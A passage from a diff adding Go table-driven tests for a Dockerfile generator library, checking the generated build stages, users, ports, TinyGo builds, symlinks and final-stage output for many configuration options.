+			wantN: []string{"musl-dev"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := generateProject(t, tt.d, fakeProject{
+				files:    []fs.FileInfo{&fakeFile{name: "go.mod"}},
+				contents: map[string]string{"go.mod": tt.goMod},
+			})["Dockerfile"]
+			checkDockerfile(t, got, tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_SetTinyGo(t *testing.T) {
+	tests := []struct {
+		name  string
+		d     *Docen
+		want  []string
+		wantN []string
+	}{
+		{
+			name: "tinygo",
+			d:    New().SetTinyGo(true).SetTestMode(true),
+			want: []string{
+				"FROM tinygo/tinygo:latest as builder\nUSER root\n",
+				"RUN apt-get update && apt-get install -y --no-install-recommends git ca-certificates tzdata && " +
+					"update-ca-certificates && rm -rf /var/lib/apt/lists/*\n",
+				"RUN useradd -M -s /usr/sbin/nologin appuser\n",
+				"RUN tinygo test ./...\n",
+				"RUN CGO_ENABLED=0 GOOS=linux GOARCH=amd64 tinygo build -no-debug -o /app\n",
+				"FROM scratch\n",
+				"COPY --from=builder /app /app\n",
+			},
+			wantN: []string{"FROM golang", "apk", "adduser", " go build", " go test", "-ldflags"},
+		},
+		{
+			name: "group, numeric user and version",
+			d:    New().SetTinyGo(true).SetGroup("gophers").SetNumericUser(10001).SetAppVersionArg("main.version"),
+			want: []string{
+				"RUN groupadd -r -g 10001 gophers && useradd -M -s /usr/sbin/nologin -u 10001 -g gophers appuser\n",
+				"tinygo build -no-debug -ldflags=\"-X main.version=${APP_VERSION}\" -o /app\n",
+			},
+		},
+		{
+			name:  "debug build and go install",
+			d:     New().SetTinyGo(true).SetDebugBuild(true).SetUseInstall(true),
+			want:  []string{"tinygo build -o /app\n", "FROM scratch\n", "ENTRYPOINT [\"/app\"]\n"},
+			wantN: []string{"dlv", "-no-debug", "/gobin"},
+		},
+		{
+			name: "image digest",
+			d:    New().SetTinyGo(true).SetReproducible(true).SetImageDigest("sha256:abc"),
+			want: []string{"FROM tinygo/tinygo:latest@sha256:abc as builder\n"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_GenerateDockerfile_portDirective(t *testing.T) {
+	source := "package main\n\n//docen:port 8080\nfunc main() {}\n"
+
+	tests := []struct {
+		name string
+		d    *Docen
+		p    fakeProject
+		want []string
+	}{
+		{
+			name: "without directive",
+			d:    New(),
+			p: fakeProject{
+				files:    []fs.FileInfo{&fakeFile{name: "main.go"}},
+				contents: map[string]string{"main.go": "package main"},
+			},
+		},
+		{
+			name: "with directive",
+			d:    New(),
+			p: fakeProject{
+				files:    []fs.FileInfo{&fakeFile{name: "main.go"}},
+				contents: map[string]string{"main.go": source},
+			},
+			want: []string{"EXPOSE 8080\n"},
+		},
+		{
+			name: "port set explicitly",
+			d:    New().SetPort("3000"),
+			p: fakeProject{
+				files:    []fs.FileInfo{&fakeFile{name: "main.go"}},
+				contents: map[string]string{"main.go": source},
+			},
+			want: []string{"EXPOSE 3000\n"},
+		},
+		{
+			name: "default port without directive",
+			d:    New().SetDefaultPort("9000"),
+			p: fakeProject{
+				files:    []fs.FileInfo{&fakeFile{name: "main.go"}},
+				contents: map[string]string{"main.go": "package main"},
+			},
+			want: []string{"EXPOSE 9000\n"},
+		},
+		{
+			name: "directive takes precedence over default port",
+			d:    New().SetDefaultPort("9000"),
+			p: fakeProject{
+				files:    []fs.FileInfo{&fakeFile{name: "main.go"}},
+				contents: map[string]string{"main.go": source},
+			},
+			want: []string{"EXPOSE 8080\n"},
+		},
+		{
+			name: "config takes precedence over default port",
+			d:    New().SetDefaultPort("9000").SetPortFromConfig("config.yaml", "port"),
+			p: fakeProject{
+				files:    []fs.FileInfo{&fakeFile{name: "main.go"}},
+				contents: map[string]string{"main.go": "package main", "config.yaml": "port: 7000\n"},
+			},
+			want: []string{"EXPOSE 7000\n"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := generateProject(t, tt.d, tt.p)["Dockerfile"]
+			checkDockerfile(t, got, tt.want, nil)
+			if len(tt.want) == 0 && strings.Contains(got, "EXPOSE") {
+				t.Errorf("GenerateDockerfile() = %v, want not to contain EXPOSE", got)
+			}
+		})
+	}
+}
+
+func TestDocen_Bytes(t *testing.T) {
+	tests := []struct {
+		name    string
+		d       *Docen
+		wantErr bool
+	}{
+		{
+			name: "default",
+			d:    New(),
+		},
+		{
+			name: "with options",
+			d:    New().SetPort("8080").SetTimezone("Europe/Moscow"),
+		},
+		{
+			name:    "invalid option",
+			d:       New().SetBinaryMode("u+x"),
+			wantErr: true,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			var rendered string
+			var got []byte
+			runProject(t, fakeProject{}, func() error {
+				var err error
+				rendered, err = tt.d.Render()
+				if (err != nil) != tt.wantErr {
+					t.Errorf("Render() error = %v, wantErr %v", err, tt.wantErr)
+				}
+				got, err = tt.d.Bytes()
+				if (err != nil) != tt.wantErr {
+					t.Errorf("Bytes() error = %v, wantErr %v", err, tt.wantErr)
+				}
+				return nil
+			})
+			if tt.wantErr {
+				if got != nil {
+					t.Errorf("Bytes() = %q, want nil", got)
+				}
+				return
+			}
+			if !bytes.Equal(got, []byte(rendered)) {
+				t.Errorf("Bytes() = %q, want %q", got, rendered)
+			}
+			if want := generateDockerfile(t, tt.d); rendered != want {
+				t.Errorf("Render() = %q, want %q", rendered, want)
+			}
+		})
+	}
+}
+
+func TestDocen_GenerateDockerfileIfChanged(t *testing.T) {
+	current := generateDockerfile(t, New())
+
+	tests := []struct {
+		name        string
+		contents    map[string]string
+		wantWritten bool
+	}{
+		{
+			name:        "file does not exist",
+			contents:    map[string]string{},
+			wantWritten: true,
+		},
+		{
+			name:        "file is changed",
+			contents:    map[string]string{"Dockerfile": "FROM scratch\n"},
+			wantWritten: true,
+		},
+		{
+			name:        "file is not changed",
+			contents:    map[string]string{"Dockerfile": current},
+			wantWritten: false,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			var written bool
+			files := runProject(t, fakeProject{contents: tt.contents}, func() (err error) {
+				written, err = New().GenerateDockerfileIfChanged()
+				return err
+			})
+			if written != tt.wantWritten {
+				t.Errorf("GenerateDockerfileIfChanged() = %v, want %v", written, tt.wantWritten)
+			}
+			if _, ok := files["Dockerfile"]; ok != tt.wantWritten {
+				t.Errorf("Dockerfile is written = %v, want %v", ok, tt.wantWritten)
+			}
+		})
+	}
+}
+
+func TestDocen_SetPrebuildStd(t *testing.T) {
+	tests := []struct {
+		name  string
+		d     *Docen
+		want  []string
+		wantN []string
+	}{
+		{
+			name:  "disabled",
+			d:     New(),
+			wantN: []string{"go build std"},
+		},
+		{
+			name: "enabled",
+			d:    New().SetPrebuildStd(true).SetArch("arm64"),
+			want: []string{"RUN CGO_ENABLED=0 GOOS=linux GOARCH=arm64 go build std\nCOPY . /app\n"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_SetAppVersionArg(t *testing.T) {
+	tests := []struct {
+		name  string
+		d     *Docen
+		want  []string
+		wantN []string
+	}{
+		{
+			name:  "not set",
+			d:     New(),
+			wantN: []string{"APP_VERSION"},
+		},
+		{
+			name: "set",
+			d:    New().SetAppVersionArg("main.version"),
+			want: []string{
+				"as builder\nARG APP_VERSION\n",
+				"go build -ldflags=\"-w -s -X main.version=${APP_VERSION}\" -o /app\n",
+				"FROM scratch\nARG APP_VERSION\nLABEL version=$APP_VERSION\n",
+			},
+		},
+		{
+			name: "debug build",
+			d:    New().SetAppVersionArg("main.version").SetDebugBuild(true),
+			want: []string{"-gcflags=\"all=-N -l\" -ldflags=\"-X main.version=${APP_VERSION}\" -o /app\n"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_SetGoGenerate(t *testing.T) {
+	t.Run("disabled", func(t *testing.T) {
+		checkDockerfile(t, generateDockerfile(t, New()), nil, []string{"go generate"})
+	})
+	t.Run("enabled", func(t *testing.T) {
+		got := generateDockerfile(t, New().SetGoGenerate(true).SetTestMode(true))
+
+		copyIdx := strings.Index(got, "COPY . /app\n")
+		generateIdx := strings.Index(got, "RUN go generate ./...\n")
+		testIdx := strings.Index(got, "go test ./...")
+		buildIdx := strings.Index(got, "go build")
+		if generateIdx == -1 || !(copyIdx < generateIdx && generateIdx < testIdx && testIdx < buildIdx) {
+			t.Errorf("GenerateDockerfile() = %v, want go generate after sources copy and before test and build", got)
+		}
+	})
+}
+
+func TestDocen_AddPreBuildCommand(t *testing.T) {
+	tests := []struct {
+		name    string
+		d       *Docen
+		want    []string
+		wantN   []string
+		wantErr bool
+	}{
+		{
+			name:  "default",
+			d:     New(),
+			wantN: []string{"make"},
+		},
+		{
+			name: "commands in order",
+			d:    New().AddPreBuildCommand("make assets").AddPreBuildCommand("go run ./tools/embed"),
+			want: []string{"COPY . /app\nRUN make assets\nRUN go run ./tools/embed\nRUN CGO_ENABLED=0"},
+		},
+		{
+			name: "after go generate and before tests",
+			d:    New().SetGoGenerate(true).SetTestMode(true).AddPreBuildCommand("make assets"),
+			want: []string{"RUN go generate ./...\nRUN make assets\nRUN CGO_ENABLED=0 go test ./...\n"},
+		},
+		{
+			name:    "empty command",
+			d:       New().AddPreBuildCommand(" "),
+			wantErr: true,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if tt.wantErr {
+				if _, err := tt.d.render(); err == nil {
+					t.Errorf("render() error = %v, wantErr %v", err, tt.wantErr)
+				}
+				return
+			}
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_AddPostBuildCommand(t *testing.T) {
+	tests := []struct {
+		name    string
+		d       *Docen
+		want    []string
+		wantN   []string
+		wantErr bool
+	}{
+		{
+			name:  "default",
+			d:     New(),
+			wantN: []string{"strip"},
+		},
+		{
+			name: "commands in order",
+			d:    New().AddPostBuildCommand("strip /app").AddPostBuildCommand("cosign sign-blob /app"),
+			want: []string{"-o /app\nRUN strip /app\nRUN cosign sign-blob /app\nFROM scratch\n"},
+		},
+		{
+			name: "before static check",
+			d:    New().SetVerifyStatic(true).AddPostBuildCommand("strip /app"),
+			want: []string{"-o /app\nRUN strip /app\nRUN test -f /app/app && ! ldd /app/app"},
+		},
+		{
+			name:    "empty command",
+			d:       New().AddPostBuildCommand(""),
+			wantErr: true,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if tt.wantErr {
+				if _, err := tt.d.render(); err == nil {
+					t.Errorf("render() error = %v, wantErr %v", err, tt.wantErr)
+				}
+				return
+			}
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_SetCacheBustArg(t *testing.T) {
+	const cacheBust = "ARG CACHEBUST\nRUN echo \"cache bust: ${CACHEBUST}\"\n"
+
+	tests := []struct {
+		name  string
+		d     *Docen
+		files []fs.FileInfo
+		want  []string
+		wantN []string
+	}{
+		{
+			name:  "disabled",
+			d:     New(),
+			files: []fs.FileInfo{&fakeFile{name: "go.mod"}},
+			wantN: []string{"CACHEBUST"},
+		},
+		{
+			name:  "module mode",
+			d:     New().SetCacheBustArg(true),
+			files: []fs.FileInfo{&fakeFile{name: "go.mod"}},
+			want:  []string{"COPY go.mod /app/\n" + cacheBust + "RUN go mod download\n"},
+		},
+		{
+			name:  "vendor mode",
+			d:     New().SetCacheBustArg(true),
+			files: []fs.FileInfo{&fakeFile{name: "go.mod"}, &fakeFolder{name: "vendor"}},
+			want:  []string{cacheBust + "RUN CGO_ENABLED=0"},
+			wantN: []string{"go mod download"},
+		},
+		{
+			name:  "gopath mode",
+			d:     New().SetCacheBustArg(true).SetTestMode(true),
+			want:  []string{"go test ./...\n" + cacheBust + "RUN CGO_ENABLED=0"},
+			wantN: []string{"go mod download"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := generateDockerfile(t, tt.d, tt.files...)
+			checkDockerfile(t, got, tt.want, tt.wantN)
+			if n := strings.Count(got, "ARG CACHEBUST\n"); tt.want != nil && n != 1 {
+				t.Errorf("GenerateDockerfile() has %d CACHEBUST args, want 1", n)
+			}
+		})
+	}
+}
+
+func TestDocen_SetAtomicBuild(t *testing.T) {
+	tests := []struct {
+		name  string
+		d     *Docen
+		want  []string
+		wantN []string
+	}{
+		{
+			name:  "disabled",
+			d:     New(),
+			want:  []string{"go build -ldflags=\"-w -s\" -o /app\n"},
+			wantN: []string{".tmp", "mv "},
+		},
+		{
+			name: "enabled",
+			d:    New().SetAtomicBuild(true),
+			want: []string{
+				"go build -ldflags=\"-w -s\" -o /app.tmp && mv /app.tmp /app/app\n",
+				"COPY --from=builder /app /app\n",
+			},
+		},
+		{
+			name: "static check",
+			d:    New().SetAtomicBuild(true).SetVerifyStatic(true),
+			want: []string{
+				"-o /app.tmp && mv /app.tmp /app/app\n" +
+					"RUN test -f /app/app && ! ldd /app/app || (echo \"/app/app is missing or dynamically linked\" && exit 1)\n",
+			},
+		},
+		{
+			name: "build output",
+			d:    New().SetAtomicBuild(true).SetBuildOutput("/build/server"),
+			want: []string{"-o /build/server.tmp && mv /build/server.tmp /build/server\n"},
+		},
+		{
+			name: "tinygo",
+			d:    New().SetAtomicBuild(true).SetTinyGo(true),
+			want: []string{"tinygo build -no-debug -o /app.tmp && mv /app.tmp /app/app\n"},
+		},
+		{
+			name:  "go install",
+			d:     New().SetAtomicBuild(true).SetUseInstall(true),
+			wantN: []string{".tmp", "mv "},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_SetDownloadRetries(t *testing.T) {
+	goMod := []fs.FileInfo{&fakeFile{name: "go.mod"}, &fakeFile{name: "go.sum"}}
+
+	tests := []struct {
+		name  string
+		d     *Docen
+		want  []string
+		wantN []string
+	}{
+		{
+			name:  "default",
+			d:     New(),
+			want:  []string{"RUN go mod download\n"},
+			wantN: []string{"for i in"},
+		},
+		{
+			name:  "single attempt",
+			d:     New().SetDownloadRetries(1),
+			want:  []string{"RUN go mod download\n"},
+			wantN: []string{"for i in"},
+		},
+		{
+			name: "three attempts",
+			d:    New().SetDownloadRetries(3),
+			want: []string{"COPY go.mod go.sum /app/\nRUN for i in 1 2 3; do go mod download && break; done\n"},
+		},
+		{
+			name: "cache mount",
+			d:    New().SetDownloadRetries(2).SetCacheMount(true),
+			want: []string{"RUN --mount=type=cache,target=/go/pkg/mod for i in 1 2; do go mod download && break; done\n"},
+		},
+		{
+			name: "deps stage",
+			d:    New().SetDownloadRetries(3).SetSeparateDepsStage(true),
+			want: []string{"as deps\n", "RUN for i in 1 2 3; do go mod download && break; done\nFROM golang:"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d, goMod...), tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_SetSeparateDepsStage(t *testing.T) {
+	goMod := []fs.FileInfo{&fakeFile{name: "go.mod"}, &fakeFile{name: "go.sum"}}
+
+	tests := []struct {
+		name  string
+		d     *Docen
+		files []fs.FileInfo
+		want  []string
+		wantN []string
+	}{
+		{
+			name:  "disabled",
+			d:     New().SetGoVersion("1.21"),
+			files: goMod,
+			want:  []string{"WORKDIR /app\nCOPY go.mod go.sum /app/\nRUN go mod download\n"},
+			wantN: []string{" as deps\n", "--from=deps"},
+		},
+		{
+			name:  "enabled",
+			d:     New().SetGoVersion("1.21").SetSeparateDepsStage(true),
+			files: goMod,
+			want: []string{
+				"FROM golang:1.21-alpine as deps\n" +
+					"RUN apk update && apk add --no-cache git ca-certificates tzdata && update-ca-certificates\n" +
+					"WORKDIR /app\n" +
+					"COPY go.mod go.sum /app/\n" +
+					"RUN go mod download\n" +
+					"FROM golang:1.21-alpine as builder\n",
+				"WORKDIR /app\nCOPY --from=deps /go/pkg/mod /go/pkg/mod\nCOPY . /app\n",
+			},
+		},
+		{
+			name:  "custom GOPATH and cache mount",
+			d:     New().SetGoPath("/gopath").SetCacheMount(true).SetSeparateDepsStage(true),
+			files: goMod,
+			want: []string{
+				"as deps\nENV GOPATH=/gopath\n",
+				"COPY go.mod go.sum /app/\nRUN go mod download\n",
+				"COPY --from=deps /gopath/pkg/mod /gopath/pkg/mod\n",
+				"RUN --mount=type=cache,target=/root/.cache/go-build CGO_ENABLED=0",
+			},
+			wantN: []string{"--mount=type=cache,target=/gopath/pkg/mod"},
+		},
+		{
+			name:  "several arches",
+			d:     New().SetGoVersion("1.21").SetArches("amd64", "arm64").SetSeparateDepsStage(true),
+			files: goMod,
+			want: []string{
+				"ARG TARGETARCH=amd64\nFROM golang:1.21-alpine as deps\n",
+				"RUN go mod download\nFROM golang:1.21-alpine as builder-amd64\n",
+			},
+		},
+		{
+			name:  "vendor mode",
+			d:     New().SetSeparateDepsStage(true),
+			files: append([]fs.FileInfo{&fakeFolder{name: "vendor"}}, goMod...),
+			wantN: []string{" as deps\n", "--from=deps", "go mod download"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := generateDockerfile(t, tt.d, tt.files...)
+			checkDockerfile(t, got, tt.want, tt.wantN)
+			if n := strings.Count(got, "go mod download"); len(tt.wantN) == 0 && n != 1 {
+				t.Errorf("GenerateDockerfile() has %d module downloads, want 1", n)
+			}
+		})
+	}
+}
+
+func TestDocen_SetBuildOutput(t *testing.T) {
+	tests := []struct {
+		name string
+		d    *Docen
+		want []string
+	}{
+		{
+			name: "default",
+			d:    New(),
+			want: []string{
+				"go build -ldflags=\"-w -s\" -o /app\n",
+				"COPY --from=builder /app /app\n",
+				"ENTRYPOINT [\"/app\"]\n",
+			},
+		},
+		{
+			name: "build output and install dir",
+			d:    New().SetBuildOutput("/build/server").SetInstallDir("/usr/local/bin"),
+			want: []string{
+				"go build -ldflags=\"-w -s\" -o /build/server\n",
+				"COPY --from=builder /build/server /usr/local/bin/app\n",
+				"ENTRYPOINT [\"/usr/local/bin/app\"]\n",
+			},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, nil)
+		})
+	}
+}
+
+func TestDocen_SetUseInstall(t *testing.T) {
+	cmdFS := fstest.MapFS{
+		"go.mod":             &fstest.MapFile{Data: []byte("module github.com/lobz1g/tools\n")},
+		"cmd/server/main.go": &fstest.MapFile{Data: []byte("package main\n\nfunc main() {}\n")},
+	}
+	rootFS := fstest.MapFS{
+		"go.mod":  &fstest.MapFile{Data: []byte("module github.com/lobz1g/tools\n")},
+		"main.go": &fstest.MapFile{Data: []byte("package main\n\nfunc main() {}\n")},
+	}
+	dottedFS := fstest.MapFS{"go.mod": &fstest.MapFile{Data: []byte("module github.com/x/my.tool\n")}}
+	majorFS := fstest.MapFS{"go.mod": &fstest.MapFile{Data: []byte("module github.com/x/my.tool/v2\n")}}
+
+	tests := []struct {
+		name    string
+		d       *Docen
+		want    []string
+		notWant []string
+	}{
+		{
+			name: "root package",
+			d:    New().SetUseInstall(true),
+			want: []string{
+				"RUN CGO_ENABLED=0 GOOS=linux GOARCH=amd64 GOBIN=/gobin go install -ldflags=\"-w -s\"\n",
+				"COPY --from=builder /gobin/app /app\n",
+				"ENTRYPOINT [\"/app\"]\n",
+			},
+			notWant: []string{"go build"},
+		},
+		{
+			name: "main package in cmd",
+			d:    New().SetFS(cmdFS).SetUseInstall(true).SetInstallDir("/usr/local/bin"),
+			want: []string{
+				"GOBIN=/gobin go install -ldflags=\"-w -s\" ./cmd/server\n",
+				"COPY --from=builder /gobin/server /usr/local/bin/tools\n",
+			},
+			notWant: []string{"go build"},
+		},
+		{
+			name:    "dotted module",
+			d:       New().SetFS(dottedFS).SetUseInstall(true),
+			want:    []string{"COPY --from=builder /gobin/my.tool /"},
+			notWant: []string{"/gobin/my_tool", "/gobin/mytool "},
+		},
+		{
+			name:    "major version module",
+			d:       New().SetFS(majorFS).SetUseInstall(true),
+			want:    []string{"COPY --from=builder /gobin/my.tool /"},
+			notWant: []string{"/gobin/v2"},
+		},
+		{
+			name: "custom name sanitizer",
+			d: New().SetFS(rootFS).SetUseInstall(true).SetNameSanitizer(func(string) string {
+				return "custom"
+			}),
+			want: []string{"WORKDIR /custom\n", "COPY --from=builder /gobin/tools /custom\n"},
+		},
+		{
+			name:    "build output is ignored",
+			d:       New().SetUseInstall(true).SetBuildOutput("/build/server"),
+			want:    []string{"COPY --from=builder /gobin/app /app\n"},
+			notWant: []string{"/build/server"},
+		},
+		{
+			name:    "disabled",
+			d:       New().SetUseInstall(false),
+			want:    []string{"go build -ldflags=\"-w -s\" -o /app\n", "COPY --from=builder /app /app\n"},
+			notWant: []string{"go install", "/gobin"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, tt.notWant)
+		})
+	}
+}
+
+func TestDocen_SetUseInstall_crossBuild(t *testing.T) {
+	tests := []struct {
+		name    string
+		d       *Docen
+		wantErr bool
+	}{
+		{
+			name: "default arch",
+			d:    New().SetUseInstall(true).SetArch("amd64"),
+		},
+		{
+			name:    "another arch",
+			d:       New().SetUseInstall(true).SetArch("arm64"),
+			wantErr: true,
+		},
+		{
+			name:    "several arches",
+			d:       New().SetUseInstall(true).SetArches("amd64", "arm64"),
+			wantErr: true,
+		},
+		{
+			name:    "another OS",
+			d:       New().SetUseInstall(true).SetOS("darwin"),
+			wantErr: true,
+		},
+		{
+			name: "go build",
+			d:    New().SetArch("arm64"),
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			runProject(t, fakeProject{}, func() error {
+				if _, err := tt.d.render(); (err != nil) != tt.wantErr {
+					t.Errorf("render() error = %v, wantErr %v", err, tt.wantErr)
+				}
+				return nil
+			})
+		})
+	}
+}
+
+func TestDocen_SetVerifyStatic(t *testing.T) {
+	tests := []struct {
+		name    string
+		d       *Docen
+		want    []string
+		notWant []string
+	}{
+		{
+			name: "enabled",
+			d:    New().SetVerifyStatic(true),
+			want: []string{
+				"go build -ldflags=\"-w -s\" -o /app\n" +
+					"RUN test -f /app/app && ! ldd /app/app || (echo \"/app/app is missing or dynamically linked\" && exit 1)\n",
+			},
+		},
+		{
+			name: "build output",
+			d:    New().SetVerifyStatic(true).SetBuildOutput("/build/server"),
+			want: []string{"RUN test -f /build/server && ! ldd /build/server || (echo \"/build/server is missing"},
+		},
+		{
+			name: "go install",
+			d:    New().SetVerifyStatic(true).SetUseInstall(true),
+			want: []string{"RUN test -f /gobin/app && ! ldd /gobin/app || (echo \"/gobin/app is missing"},
+		},
+		{
+			name: "dotted module",
+			d: New().
+				SetFS(fstest.MapFS{"go.mod": &fstest.MapFile{Data: []byte("module github.com/x/my.tool/v2\n")}}).
+				SetVerifyStatic(true),
+			want: []string{"-o /v2\nRUN test -f /v2/my.tool && ! ldd /v2/my.tool "},
+		},
+		{
+			name: "custom name sanitizer",
+			d: New().
+				SetFS(fstest.MapFS{"go.mod": &fstest.MapFile{Data: []byte("module github.com/x/tool\n")}}).
+				SetNameSanitizer(func(string) string { return "custom" }).
+				SetVerifyStatic(true),
+			want: []string{"RUN test -f /custom/tool && ! ldd /custom/tool "},
+		},
+		{
+			name:    "cgo",
+			d:       New().SetVerifyStatic(true).SetCGO(true),
+			notWant: []string{"ldd"},
+		},
+		{
+			name:    "disabled",
+			d:       New().SetVerifyStatic(false),
+			notWant: []string{"ldd"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, tt.notWant)
+		})
+	}
+}
+
+func TestDocen_SetEntrypointArgs(t *testing.T) {
+	tests := []struct {
+		name string
+		d    *Docen
+		want []string
+	}{
+		{
+			name: "binary name",
+			d:    New().SetBinaryName("server"),
+			want: []string{"COPY --from=builder /app /server\n", "ENTRYPOINT [\"/server\"]\n"},
+		},
+		{
+			name: "install dir, binary name and args",
+			d: New().
+				SetInstallDir("/usr/local/bin").
+				SetBinaryName("server").
+				SetEntrypointArgs("--config", "/app/config/config.yaml"),
+			want: []string{
+				"COPY --from=builder /app /usr/local/bin/server\n",
+				"ENTRYPOINT [\"/usr/local/bin/server\", \"--config\", \"/app/config/config.yaml\"]\n",
+			},
+		},
+		{
+			name: "debug build",
+			d:    New().SetDebugBuild(true).SetEntrypointArgs("-v"),
+			want: []string{
+				"ENTRYPOINT [\"/dlv\", \"--listen=:40000\", \"--headless=true\", \"--api-version=2\", " +
+					"\"exec\", \"/app\", \"--\", \"-v\"]\n",
+			},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, nil)
+		})
+	}
+}
+
+func TestDocen_SetSymlinks(t *testing.T) {
+	tests := []struct {
+		name    string
+		d       *Docen
+		want    []string
+		wantN   []string
+		wantErr bool
+	}{
+		{
+			name:  "default",
+			d:     New(),
+			wantN: []string{"ln -s", "/symlinks"},
+		},
+		{
+			name: "symlinks",
+			d:    New().SetSymlinks("serve", "migrate"),
+			want: []string{
+				"-o /app\nRUN mkdir -p /symlinks && ln -s /app /symlinks/serve && ln -s /app /symlinks/migrate\n",
+				"COPY --from=builder /app /app\nCOPY --from=builder /symlinks/ /\n",
+			},
+		},
+		{
+			name: "install dir",
+			d:    New().SetInstallDir("/usr/local/bin").SetBinaryName("tool").SetSymlinks("serve"),
+			want: []string{
+				"RUN mkdir -p /symlinks && ln -s /usr/local/bin/tool /symlinks/serve\n",
+				"COPY --from=builder /app /usr/local/bin/tool\nCOPY --from=builder /symlinks/ /usr/local/bin/\n",
+			},
+		},
+		{
+			name:    "invalid name",
+			d:       New().SetSymlinks("../serve"),
+			wantErr: true,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if tt.wantErr {
+				if _, err := tt.d.render(); err == nil {
+					t.Errorf("render() error = %v, wantErr %v", err, tt.wantErr)
+				}
+				return
+			}
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_SetArtifactOnly(t *testing.T) {
+	tests := []struct {
+		name string
+		d    *Docen
+		want string
+	}{
+		{
+			name: "enabled",
+			d:    New().SetArtifactOnly(true).SetPort("8080").SetTimezone("Europe/Moscow"),
+			want: "-o /app\nFROM scratch\nCOPY --from=builder /app /app\n",
+		},
+		{
+			name: "binary name and go install",
+			d:    New().SetArtifactOnly(true).SetUseInstall(true).SetBinaryName("server").SetInstallDir("/usr/local/bin"),
+			want: "FROM scratch\nCOPY --from=builder /gobin/app /server\n",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := generateDockerfile(t, tt.d)
+			if !strings.HasSuffix(got, tt.want) {
+				t.Errorf("GenerateDockerfile() = %v, want suffix %v", got, tt.want)
+			}
+			checkDockerfile(t, got, nil, []string{"USER", "ENTRYPOINT", "EXPOSE", "ENV TZ", "/etc/passwd\n"})
+		})
+	}
+}
+
+func TestDocen_SetMinimalTLS(t *testing.T) {
+	tests := []struct {
+		name string
+		d    *Docen
+		want string
+	}{
+		{
+			name: "enabled",
+			d: New().SetMinimalTLS(true).SetPort("8080").SetTimezone("Europe/Moscow").
+				SetGroup("gophers").SetAdditionalFolder("static"),
+			want: "FROM scratch\n" +
+				"COPY --from=builder /etc/ssl/certs/ca-certificates.crt /etc/ssl/certs/\n" +
+				"COPY --from=builder /app /app\n" +
+				"USER 65534:65534\n" +
+				"EXPOSE 8080\n" +
+				"ENTRYPOINT [\"/app\"]\n",
+		},
+		{
+			name: "numeric user",
+			d:    New().SetMinimalTLS(true).SetNumericUser(10001).SetBinaryName("server").SetInstallDir("/bin"),
+			want: "FROM scratch\n" +
+				"COPY --from=builder /etc/ssl/certs/ca-certificates.crt /etc/ssl/certs/\n" +
+				"COPY --from=builder /app /bin/server\n" +
+				"USER 10001:10001\n" +
+				"ENTRYPOINT [\"/bin/server\"]\n",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := generateDockerfile(t, tt.d)
+			if final := got[strings.LastIndex(got, "FROM "):]; final != tt.want {
+				t.Errorf("GenerateDockerfile() final stage = %v, want %v", final, tt.want)
+			}
+		})
+	}
+}
+
+func TestDocen_SetArtifactPath(t *testing.T) {
+	tests := []struct {
+		name    string
+		d       *Docen
+		want    string
+		wantErr bool
+	}{
+		{
+			name: "default",
+			d:    New().SetArtifactOnly(true),
+			want: "FROM scratch\nCOPY --from=builder /app /app\n",
+		},
+		{
+			name: "out dir",
+			d:    New().SetArtifactOnly(true).SetArtifactPath("/out"),
+			want: "FROM scratch\nCOPY --from=builder /app /out/app\n",
+		},
+		{
+			name: "trailing slash and binary name",
+			d:    New().SetArtifactOnly(true).SetArtifactPath("/out/bin/").SetBinaryName("server"),
+			want: "FROM scratch\nCOPY --from=builder /app /out/bin/server\n",
+		},
+		{
+			name:    "relative path",
